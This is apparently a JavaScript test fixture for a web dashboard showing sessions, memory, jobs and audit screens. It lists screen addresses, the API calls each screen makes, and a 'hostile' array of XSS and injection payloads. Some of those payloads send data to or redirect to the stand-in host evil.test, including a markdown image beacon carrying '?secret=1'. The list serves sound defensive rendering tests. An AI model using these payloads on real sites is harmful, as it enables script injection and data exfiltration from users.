// The screens of the page: where they are, and what each asks the server for.

const key = encodeURIComponent('repo:acme/cache');

/** screens are the addresses of all screens in the scene. @param {{job: string, run: string}} scene */
export const screens = ({ job, run }) => ({
  sessions: '#/sessions', chat: '#/sessions/cache', new: '#/sessions/new', memory: '#/memory', facts: `#/memory/key/${key}/facts`,
  timeline: `#/memory/key/${key}/timeline`, shown: `#/memory/key/${key}/shown`, try: `#/memory/key/${key}/try`, past: `#/memory/key/${key}/past`,
  search: '#/search?q=redis', jobs: '#/jobs', job: `#/jobs/${job}`, jobform: '#/jobs/new', failed: '#/jobs/failed', runs: '#/runs', run: `#/runs/${run}`,
  cost: '#/cost', keys: '#/keys', audit: '#/audit', health: '#/health', settings: '#/settings', more: '#/more',
});

/** reading are the screens that show what they have read, and a part of its address. */
export const reading = {
  '#/sessions': /api\/sessions\?/, '#/sessions/cache': /api\/sessions\/cache\/messages/, '#/memory': /api\/memory\/scopes/, [`#/memory/key/${key}/facts`]: /api\/memory\?/,
  [`#/memory/key/${key}/timeline`]: /api\/memory\/timeline/, [`#/memory/key/${key}/shown`]: /api\/memory\/state/, '#/search?q=redis': /api\/search/,
  '#/jobs': /api\/jobs$/, '#/jobs/failed': /api\/jobs\/runs/, '#/runs': /v1\/runs\?/, '#/cost': /api\/cost/, '#/keys': /api\/keys/, '#/audit': /api\/audit/,
  '#/health': /api\/doctor/, '#/settings': /api\/config/,
};

/** hostile are texts that try to be more than texts. */
export const hostile = [
  '<script>window.hacked=1</script>', '<img src=x onerror="window.hacked=1">', '<svg onload="window.hacked=1">', '<iframe src="https://evil.test/"></iframe>',
  '"><script>window.hacked=1</script>', "'-window.hacked=1-'", '{{constructor.constructor("window.hacked=1")()}}', '${window.hacked=1}', '[link](javascript:window.hacked=1)',
  '[link](JaVaScRiPt:window.hacked=1)', '[link](data:text/html,<script>window.hacked=1</script>)', '[link](vbscript:x)', '![pixel](https://evil.test/p.png?secret=1)',
  '![x](javascript:window.hacked=1)', '<a href="javascript:window.hacked=1">click</a>', '<style>*{display:none}</style>', '<link rel=stylesheet href=https://evil.test/x.css>',
  '<base href="https://evil.test/">', '<meta http-equiv=refresh content="0;url=https://evil.test/">', '<form action="https://evil.test/"><button>Send</button></form>',
  '<object data="https://evil.test/"></object>', '<embed src="https://evil.test/">', '<math><mi xlink:href="javascript:window.hacked=1">x</mi></math>', '<details open ontoggle="window.hacked=1">',
  '<input autofocus onfocus="window.hacked=1">', '[x]: javascript:window.hacked=1\n\n[x]', '<https://evil.test/auto>', 'a\u202Egnp.exe', 'nul\u0001bell\u0007', '`<script>window.hacked=1</script>`',
  '<template><script>window.hacked=1</script></template>', '<video><source onerror="window.hacked=1"></video>',
];
